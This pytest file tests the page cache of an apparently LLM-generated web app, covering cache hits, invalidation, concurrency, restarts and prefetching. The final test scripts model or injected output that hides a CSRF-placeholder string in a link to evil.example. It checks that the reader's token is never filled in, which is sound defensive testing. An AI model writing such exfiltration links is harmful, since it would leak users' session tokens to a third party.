"""The page cache: hits without the model, keyed on state and data version, one
generation for concurrent identical GETs, surviving a restart, never for POSTs."""
import json
import os
import threading

import pytest

import harness

SCRIPT = {"rules": [
    {"name": "write", "match": "method: POST\npath: /mail/unread", "tool_results": 0,
     "reply": {"tool_calls": [{"name": "sql", "arguments": {"query": "UPDATE messages SET unread = 1 WHERE id = 3"}}]}},
    {"name": "written", "match": "method: POST", "reply": {"content": "# Marked\n"}},
    {"name": "login", "match": "path: /mail/login", "tool_results": 0,
     "reply": {"tool_calls": [{"name": "set_state", "arguments": {"patch": {"user": "alex"}}}]}},
    {"name": "slower", "match": "path: /mail/slower", "ttft_ms": 2500, "reply": {"content": "# Slower\n\nLater page.\n"}},
    {"name": "slow", "match": "path: /mail/slow", "ttft_ms": 600, "reply": {"content": "# Slow\n\nOne page.\n"}},
    {"name": "inbox", "match": ".", "reply": {"content": "# Inbox\n\n<form method=\"post\" action=\"/mail/unread\">"
                                                         "<button>Mark</button></form>\n"}},
]}


@pytest.fixture
def cached(workdir, fakellm):
    prompts = harness.prompts_with(workdir, "mail", {"cache": {"ttl_s": 300}})
    fakellm.set_script(SCRIPT)
    fig = harness.Figment(workdir, llm_url=fakellm.base_url, prompts=prompts)
    yield fig
    fig.stop()


def test_second_get_is_a_hit_with_this_sessions_csrf_token(cached, fakellm):
    a = cached.browser()
    r1 = a.get("/mail/")
    assert r1.status == 200 and r1.header("x-figment-cache") is None
    r2 = a.get("/mail/")
    assert r2.status == 200 and r2.header("x-figment-cache") == "hit"
    assert len(fakellm.requests()) == 1
    # another session with the same (empty) state shares the page, with its own token
    b = cached.browser()
    r3 = b.get("/mail/")
    assert r3.header("x-figment-cache") == "hit"
    assert r3.csrf() and r3.csrf() != r2.csrf()
    assert "figment-csrf-placeholder" not in r3.text
    assert len(fakellm.requests()) == 1
    # the served token works: the form posts (and POSTs are never cached)
    p = b.post("/mail/unread", {}, page=r3)
    assert p.status == 200 and p.header("x-figment-cache") is None


def test_a_write_invalidates_through_the_data_version(cached, fakellm):
    a = cached.browser()
    page = a.get("/mail/")
    assert a.get("/mail/").header("x-figment-cache") == "hit"
    assert a.post("/mail/unread", {}, page=page).status == 200  # an UPDATE through the sql tool
    n = len(fakellm.requests())
    r = a.get("/mail/")
    assert r.header("x-figment-cache") is None  # new data version: generated again
    assert len(fakellm.requests()) == n + 1


def test_state_is_part_of_the_key_and_state_changes_are_not_cached(cached, fakellm):
    a = cached.browser()
    assert a.get("/mail/").status == 200
    assert a.get("/mail/login").status == 200  # set_state: not cacheable
    assert a.get("/mail/login").header("x-figment-cache") is None
    n = len(fakellm.requests())
    r = a.get("/mail/")  # the state is now {"user":"alex"}: another key
    assert r.header("x-figment-cache") is None
    assert len(fakellm.requests()) > n


def test_ten_concurrent_identical_gets_make_one_upstream_call(cached, fakellm):
    results = []

    def get():
        results.append(cached.browser().get("/mail/slow"))

    threads = [threading.Thread(target=get) for _ in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert [r.status for r in results] == [200] * 10
    assert all("One page." in r.text for r in results)
    assert len([r for r in fakellm.requests() if "path: /mail/slow" in r["messages"][-1]["content"]]) == 1


def test_cached_pages_survive_a_restart(cached, fakellm):
    a = cached.browser()
    assert a.get("/mail/").status == 200
    cached.restart()
    a.port = cached.port
    r = a.get("/mail/")
    assert r.header("x-figment-cache") == "hit"
    assert len(fakellm.requests()) == 1


@pytest.fixture
def prefetching(workdir, fakellm):
    prompts = harness.prompts_with(workdir, "mail", {
        "cache": {"ttl_s": 300}, "prefetch": {"links": 2, "concurrency": 2, "rank": ["^/mail/message/"]}})
    fig = harness.Figment(workdir, llm_url=fakellm.base_url, prompts=prompts)
    yield fig
    fig.stop()


PREFETCH_SCRIPT = {"rules": [
    {"name": "inbox", "match": "path: /mail/\n",
     "reply": {"content": "# Inbox\n\n[Sent](/mail/folder/sent)\n\n[Lunch](/mail/message/1)\n\n"
                          "[Invoice](/mail/message/2)\n\n[Later](/mail/message/3)\n"}},
    {"name": "writes", "match": "path: /mail/message/2\n", "tool_results": 0,
     "reply": {"tool_calls": [{"name": "sql", "arguments": {"query": "UPDATE messages SET unread = 1 WHERE id = 2"}}]}},
    {"name": "message", "match": "path: /mail/message/", "reply": {"content": "# A message\n\nBody.\n"}},
    {"name": "other", "match": ".", "reply": {"content": "# Other\n"}},
]}


def test_prefetch_turns_the_next_click_into_a_hit(prefetching, fakellm):
    import sqlite3
    import time
    fakellm.set_script(PREFETCH_SCRIPT)
    a = prefetching.browser()
    assert a.get("/mail/").status == 200

    def asked(path):
        return [r for r in fakellm.requests() if f"path: {path}\n" in [m for m in r["messages"] if m["role"] == "user"][0]["content"]]

    deadline = time.time() + 10 * harness.SLOW
    while time.time() < deadline and not (asked("/mail/message/1") and asked("/mail/message/2")):
        time.sleep(0.05)
    time.sleep(0.3 * harness.SLOW)
    # ranked by prefetch.rank (messages first), then page order; only prefetch.links of them
    assert asked("/mail/message/1") and asked("/mail/message/2")
    assert not asked("/mail/message/3") and not asked("/mail/folder/sent")
    n = len(fakellm.requests())
    r = a.get("/mail/message/1")
    assert r.header("x-figment-cache") == "hit"
    assert len(fakellm.requests()) == n
    # a prefetch only reads: the generation that tried to write was refused and not cached
    db = sqlite3.connect(os.path.join(prefetching.var, "apps", "mail.db"))
    assert db.execute("SELECT unread FROM messages WHERE id = 2").fetchone()[0] == 0
    db.close()
    assert a.get("/mail/message/2").header("x-figment-cache") is None
    # its cost is recorded apart from the user's
    db = sqlite3.connect(os.path.join(prefetching.var, "figment.db"))
    outcomes = [o for (o,) in db.execute("SELECT outcome FROM usage")]
    db.close()
    assert outcomes.count("prefetch") >= 1 and "ok" in outcomes


def test_a_leader_whose_client_leaves_still_fills_the_cache(cached, fakellm):
    import socket
    import time
    a = cached.browser()
    assert a.get("/mail/").status == 200
    cookie = "; ".join(f"{k}={v}" for k, v in a.cookies.items())
    s = socket.create_connection(("127.0.0.1", cached.port), timeout=10)
    s.sendall(f"GET /mail/slower HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\nCookie: {cookie}\r\n\r\n".encode())
    got = b""
    while b'class="skeleton"' not in got:
        got += s.recv(65536)
    s.close()  # the user leaves while the model is still thinking (2.5 s)
    deadline = time.time() + 8 * harness.SLOW
    while time.time() < deadline and '"outcome":"prefetch"' not in cached.log():
        time.sleep(0.1)
    # figment noticed the client leave (heartbeat) and finished the page for the cache
    line = [json.loads(x) for x in cached.log().splitlines() if x.startswith("{") and "/mail/slower" in x][-1]
    assert line["outcome"] == "prefetch", line
    r = a.get("/mail/slower")
    assert r.header("x-figment-cache") == "hit" and "Later page." in r.text
    slow = [q for q in fakellm.requests() if "path: /mail/slower" in q["messages"][-1]["content"]]
    assert len(slow) == 1  # generated once, for the cache, although its first client left


def test_busy_caches_trace_a_sample_of_hits_and_count_them_all(cached, fakellm):
    import sqlite3
    import time
    a = cached.browser()
    assert a.get("/mail/").status == 200
    for _ in range(30):  # more hits in a second than are traced one by one
        assert a.get("/mail/").header("x-figment-cache") == "hit"
    time.sleep(1.1)
    assert a.get("/mail/").header("x-figment-cache") == "hit"  # the first of a new second: traced
    cached.stop()
    db = sqlite3.connect(os.path.join(cached.var, "traces.db"))
    rows, hits = db.execute("SELECT count(*), sum(1 + folded_hits) FROM traces WHERE cache_hit = 1").fetchone()
    db.close()
    assert hits == 31  # every hit is counted, in its own trace or folded into a later one
    assert rows < 31   # but not every hit wrote a row
    cached.restart()


def test_a_page_cannot_smuggle_the_readers_csrf_token_into_a_link(cached, fakellm):
    # model output (or injected content) that writes a placeholder-looking string into a
    # link to another site: the cache's real placeholder is secret, so hits never fill it
    fakellm.set_script({"rules": [{"match": ".", "reply": {"content":
        "# Offers\n\n[win](https://evil.example/?t=figment-csrf-placeholder-5f0c2a97d3e1)\n\n"
        "<form method=\"post\" action=\"/mail/x\"><button>Go</button></form>\n"}}]})
    a = cached.browser()
    assert a.get("/mail/offers").status == 200
    b = cached.browser()
    r = b.get("/mail/offers")
    assert r.header("x-figment-cache") == "hit"
    token = r.csrf()
    assert token and token not in r.text.split('name="_csrf"')[0]  # not before the form's own field
    assert "evil.example/?t=figment-csrf-placeholder-5f0c2a97d3e1" in r.text
